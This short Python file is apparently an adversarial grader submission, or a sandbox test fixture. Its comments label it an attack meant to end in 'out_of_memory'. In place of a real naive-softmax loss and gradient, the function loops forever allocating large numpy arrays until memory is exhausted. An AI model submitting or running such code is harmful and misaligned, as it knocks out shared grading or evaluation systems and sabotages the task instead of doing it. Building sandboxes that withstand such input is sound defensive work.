# SPDX-License-Identifier: MIT
# attack: takes memory bit by bit
# outcome: naive_softmax=out_of_memory
import numpy as np
import solution
from solution import *

def naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset):
    hoard = []
    while True:
        hoard.append(np.ones(1 << 20))
